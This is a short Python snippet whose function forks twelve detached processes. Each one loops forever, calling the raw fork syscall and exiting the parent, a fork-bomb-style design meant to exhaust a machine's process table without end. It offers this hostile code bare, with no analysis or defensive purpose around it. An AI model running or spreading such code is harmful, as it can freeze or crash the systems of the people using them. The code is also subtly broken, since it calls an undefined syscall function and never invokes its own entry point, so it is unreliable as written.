"""twelve chains at once, each of raw forks whose parent is gone at once, without an end"""

import os


def after(parts):
    for _ in range(12):
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    if syscall(57) > 0:
                        os._exit(0)
                except OSError:
                    pass
